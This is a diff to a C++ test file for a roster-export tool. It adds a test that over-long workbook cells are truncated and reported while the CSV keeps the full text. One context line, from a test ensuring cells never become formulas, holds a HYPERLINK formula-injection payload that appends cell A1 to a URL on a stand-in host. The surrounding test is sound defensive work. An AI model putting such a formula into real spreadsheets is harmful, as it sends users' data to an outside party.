@@ -1059,3 +1059,20 @@ TEST(Cli, RosterCellsAreNeverFormulas) {
   }
   EXPECT_EQ(sheet.cells["F2"].value, "=HYPERLINK(\"http://x.example/?\"&A1,\"点\")");
 }
+
+// A workbook cell holds at most 32 767 characters; libxlsxwriter left a longer
+// one empty without a word. Its beginning is written and the cell named; the
+// CSV keeps the whole text.
+TEST(Cli, AWorkbookCellTooLongIsCutAndNamed) {
+  TempDir dir;
+  const std::string title(40000, 'T');
+  writeFile(dir.path("long.xdx"), document("<ver>VL2011v1.0</ver><ProjectName>" + title + "</ProjectName>"));
+  CliRun x = cli({"roster", dir.path("long.xdx"), "--out", dir.path("r.xlsx")});
+  EXPECT_EQ(x.exit, 1) << x.err;  // the document's problems, no refusal
+  EXPECT_EQ(x.err, dir.path("r.xlsx") + "：单元格 F2（ProjectName）超过 32767 个字符，只写入了前 32767 个；CSV 名册保留全文\n");
+  SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
+  EXPECT_EQ(sheet.cells["F2"].value, std::string(32767, 'T'));
+  CliRun csv = cli({"roster", dir.path("long.xdx"), "--out", dir.path("r.csv")});
+  EXPECT_EQ(csv.err, "");
+  EXPECT_NE(readFile(dir.path("r.csv")).find("," + title + ","), std::string::npos);
+}
